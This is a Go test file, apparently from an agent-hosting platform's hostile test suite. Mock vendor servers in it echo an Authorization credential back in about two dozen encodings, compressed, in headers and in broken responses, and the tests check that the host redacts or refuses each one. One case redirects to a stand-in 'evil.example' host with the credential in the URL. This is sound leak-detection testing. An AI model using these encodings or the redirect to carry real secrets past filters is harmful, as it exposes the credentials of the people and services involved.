package hostile_test

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/url"
	"strconv"
	"strings"

	"github.com/agenthost/agenthost/internal/egress"
	"github.com/agenthost/agenthost/pdk/abi"
)

// reflectionAttacks have a vendor give the credential back, and pass on what comes.
//
// threat: N11 in TestCorpus/reflection
func reflectionAttacks() []attack {
	body := func(status int, encode func(string) string) func(http.ResponseWriter, *http.Request, *place) {
		return func(w http.ResponseWriter, r *http.Request, _ *place) {
			w.WriteHeader(status)
			_, _ = io.WriteString(w, `{"echo":"`+encode(r.Header.Get("Authorization"))+`"}`)
		}
	}
	quoted := func(s string) string { b, _ := json.Marshal(s); return string(b[1 : len(b)-1]) }
	each := func(format string) func(string) string {
		return func(s string) string {
			var b strings.Builder
			for _, c := range s {
				fmt.Fprintf(&b, format, c)
			}
			return b.String()
		}
	}
	base64At := func(lead int, e *base64.Encoding) func(string) string {
		return func(s string) string { return e.EncodeToString([]byte(strings.Repeat("_", lead) + s + "x")) }
	}
	lower := func(s string) string {
		parts := strings.Split(url.QueryEscape(s), "%")
		for i := 1; i < len(parts); i++ {
			parts[i] = strings.ToLower(parts[i][:2]) + parts[i][2:]
		}
		return strings.Join(parts, "%")
	}
	wide := func(s string) []byte {
		var b []byte
		for _, c := range []byte(s) {
			b = append(b, c, 0)
		}
		return b
	}
	var attacks []attack
	for _, e := range []struct {
		name   string
		encode func(string) string
	}{
		{"as it is", func(s string) string { return s }},
		{"as JSON", quoted},
		{"as JSON by numbers", each(`\u%04x`)},
		{"as JSON in JSON", func(s string) string { return quoted(quoted(each(`\u%04x`)(s))) }},
		{"in base64", base64At(0, base64.StdEncoding)},
		{"in base64, one further", base64At(1, base64.StdEncoding)},
		{"in base64, two further", base64At(2, base64.RawStdEncoding)},
		{"in base64 for URLs", base64At(0, base64.URLEncoding)},
		{"in base64 for URLs, two further", base64At(2, base64.RawURLEncoding)},
		{"in base64 of base64's escapes", func(s string) string { return url.QueryEscape(base64At(1, base64.StdEncoding)(s)) }},
		{"in a query", url.QueryEscape},
		{"in a query in lower case", lower},
		{"in a query, every byte", each("%%%02X")},
		{"in a query of a query", func(s string) string { return url.QueryEscape(each("%%%02x")(s)) }},
		{"in hexadecimal", func(s string) string { return hex.EncodeToString([]byte(s)) }},
		{"in hexadecimal, capitals", func(s string) string { return strings.ToUpper(hex.EncodeToString([]byte(s))) }},
		{"in HTML", func(s string) string { return quoted(html.EscapeString(s)) }},
		{"in HTML by numbers", each("&#%d;")},
		{"in HTML by hexadecimal numbers", each("&#x%X;")},
		{"in HTML of HTML", func(s string) string { return html.EscapeString(each("&#%d;")(s)) }},
		{"in UTF-16", func(s string) string { return quoted(string(wide(s))) }},
		{"in base64 of UTF-16", func(s string) string { return base64.StdEncoding.EncodeToString(wide(s)) }},
	} {
		attacks = append(attacks, attack{name: "the credential " + e.name, vendor: body(200, e.encode), answer: "[redacted]"})
	}
	for _, status := range []int{400, 401, 403, 404, 422, 429, 500, 503} {
		attacks = append(attacks, attack{name: "the credential in an answer of " + strconv.Itoa(status), vendor: body(status, quoted), answer: "[redacted]"})
	}
	denied := func(w http.ResponseWriter, r *http.Request, _ *place) {
		w.Header().Set("Location", "https://evil.example/"+url.PathEscape(r.Header.Get("Authorization"))+"?"+url.QueryEscape(canary))
		w.WriteHeader(http.StatusFound)
	}
	return append(attacks,
		attack{name: "the credential in pieces", answer: "[redacted]", vendor: func(w http.ResponseWriter, r *http.Request, _ *place) {
			for _, c := range `{"echo":"` + quoted(r.Header.Get("Authorization")) + `"}` {
				_, _ = io.WriteString(w, string(c))
				_ = http.NewResponseController(w).Flush()
			}
		}},
		attack{name: "the credential compressed", answer: "[redacted]", vendor: func(w http.ResponseWriter, r *http.Request, _ *place) {
			var b bytes.Buffer
			z := gzip.NewWriter(&b)
			_, _ = io.WriteString(z, `{"echo":"`+quoted(r.Header.Get("Authorization"))+`"}`)
			_ = z.Close()
			w.Header().Set("Content-Encoding", "gzip")
			_, _ = w.Write(b.Bytes())
		}},
		attack{
			name: "the credential compressed twice", arrives: true, kind: abi.KindVendorError, says: "unsupported encoding", hint: "only gzip",
			vendor: func(w http.ResponseWriter, r *http.Request, _ *place) {
				w.Header().Set("Content-Encoding", "gzip, gzip; "+canary)
				_, _ = io.WriteString(w, canary)
			},
		},
		attack{name: "the credential as a key", answer: `{"[redacted]":1}`, vendor: func(w http.ResponseWriter, _ *http.Request, _ *place) {
			_, _ = io.WriteString(w, `{`+strconv.Quote(canary)+`:1}`)
		}},
		attack{name: "the credential a thousand times", answer: "[redacted]", vendor: func(w http.ResponseWriter, _ *http.Request, _ *place) {
			_, _ = io.WriteString(w, `["`+strings.Repeat(canary, 1000)+`"]`)
		}},
		attack{
			name: "the credential in a redirect", vendor: denied, arrives: true, kind: abi.KindDenied, rule: egress.RuleRedirect, says: "it is another origin",
			hint: "must declare the target request",
		},
		attack{name: "the credential in headers", answer: "ok", vendor: func(w http.ResponseWriter, r *http.Request, _ *place) {
			w.Header().Set("X-Echo", canary)
			w.Header().Set("Set-Cookie", "t="+canary)
			w.Header().Set("Authorization", r.Header.Get("Authorization"))
			w.Header().Set("Www-Authenticate", `Bearer realm="`+canary+`"`)
			w.Header().Set("Retry-After", canary)
			w.Header().Set("Content-Type", "text/"+url.PathEscape(canary))
			_, _ = io.WriteString(w, `"ok"`)
		}},
		attack{
			name: "the credential where there is no answer", arrives: true, kind: abi.KindNetwork, says: "the connection to", hint: "check the network",
			vendor: func(w http.ResponseWriter, _ *http.Request, _ *place) {
				conn, _, err := http.NewResponseController(w).Hijack()
				if err != nil {
					panic(http.ErrAbortHandler) // HTTP/2 has streams instead
				}
				_, _ = io.WriteString(conn, "HTTP/1.1 "+canary+" "+canary+"\r\n"+canary+"\r\n\r\n")
				_ = conn.Close()
			},
		},
	)
}
